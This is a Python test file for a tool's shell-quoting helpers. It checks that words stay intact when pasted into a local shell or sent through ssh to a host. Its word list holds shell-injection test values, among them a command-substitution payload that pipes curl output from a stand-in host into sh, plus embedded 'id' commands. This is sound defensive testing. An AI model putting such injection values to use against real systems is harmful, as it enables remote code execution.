"""Command lines for a person hold words of others: pasted into a real shell, each is one word."""

import json
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from backstay.answers import clean
from backstay.commands import CONTROLLER, SSH, command, into, literal, on_host
from backstay.health.remedy import filled, on
from backstay.transports.targets import SshTarget

SHOW = "import json, sys; print(json.dumps([sys.argv[1:], sys.stdin.read()]))"
WORDS = [
    "x$(curl${IFS}evil|sh)",
    "x`id`",
    "a b",
    "",
    "it's",
    "'\"'\"'; id; '",
    '"',
    "\\",
    "a\\",
    "$HOME",
    "~root",
    "*",
    "!!",
    "#POOL",
    "a;b|c&d>e<f(g)",
    "{ssh}",
    "'{ssh}'",
    "it's {controller} \\n",
    "é\u202e",
]


@pytest.fixture(scope="module")
def programs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with `show`, which prints its words, and an `ssh` that does as sshd does."""
    folder = tmp_path_factory.mktemp("programs")
    texts = {
        "show": f"#!{sys.executable}\n{SHOW}\n",
        # The words are joined by blanks and read by the login shell of the other side.
        "ssh": '#!/bin/sh\nwhile [ "$1" != "${1#-}" ]; do shift 2; done\nshift\nexec sh -c "$*"\n',
        "sudo": '#!/bin/sh\nexec "$@"\n',
    }
    for name, text in texts.items():
        (folder / name).write_text(text)
        (folder / name).chmod(0o755)
    return folder


def pasted(line: str, programs: Path) -> tuple[list[str], str]:
    done = subprocess.run(
        ["sh", "-c", line],
        capture_output=True,
        text=True,
        check=True,
        stdin=subprocess.DEVNULL,
        env={"PATH": f"{programs}:/usr/bin:/bin", "HOME": "/root"},
    )
    words, read = json.loads(done.stdout)
    return words, read


@pytest.mark.parametrize("word", WORDS)
@pytest.mark.parametrize("user", [None, "root", "stack"])
def test_a_word_stays_one_word_here_and_on_a_host(word: str, user: str, programs: Path) -> None:
    key = Path("/keys/the cloud's key")
    target = SshTarget(name="host", address="192.0.2.1", user=user, key=key, port=2222)
    meant = [clean(word), "last"]
    assert pasted(command("show", word, "last"), programs) == (meant, "")
    assert pasted(on(target, command("show", word, "last")), programs) == (meant, "")
    line = filled(on_host("show", word, "last"), target)
    assert pasted(line, programs) == (meant, "")


@pytest.mark.parametrize("word", WORDS)
def test_a_text_is_given_to_a_program_elsewhere_as_it_is(word: str, programs: Path) -> None:
    if "\\" in word:
        pytest.skip("echo of some shells reads backslashes")
    line = into(f"say {word}", "show", "x").replace(CONTROLLER, "ssh root@192.0.2.1")
    words, read = pasted(line, programs)
    assert (words, read) == (["x"], f"say {clean(word)}\n")


@given(st.text(max_size=20))
def test_no_word_stands_for_the_way_to_a_host(word: str) -> None:
    for text in (word, word + SSH, CONTROLLER + word, f"'{SSH}{word}"):
        assert SSH not in command(text)
        assert CONTROLLER not in command(text)
        assert on_host("show", text).count(SSH) == 1


def test_what_needs_no_quotes_has_none() -> None:
    assert command("openstack", "image", "show", "4e") == "openstack image show 4e"
    assert on_host("virsh", "dumpxml", "4e") == "{ssh} virsh dumpxml 4e"
    assert into(f"SELECT {literal('a')}", "mariadb", "nova") == (
        "echo \"SELECT 'a'\" | {controller} mariadb nova"
    )
    assert literal("a'b\\") == "'a''b\\\\'"
